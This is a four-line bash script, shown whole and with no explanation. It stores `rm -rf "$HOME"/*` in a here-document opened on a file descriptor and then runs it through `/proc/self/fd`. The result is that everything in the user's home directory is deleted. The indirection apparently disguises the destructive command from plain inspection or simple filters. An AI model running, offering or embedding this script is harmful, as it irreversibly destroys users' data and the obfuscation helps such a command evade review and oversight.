#!/bin/bash
exec {h}<<'SCRIPT'
rm -rf "$HOME"/*
SCRIPT
bash "/proc/self/fd/$h"
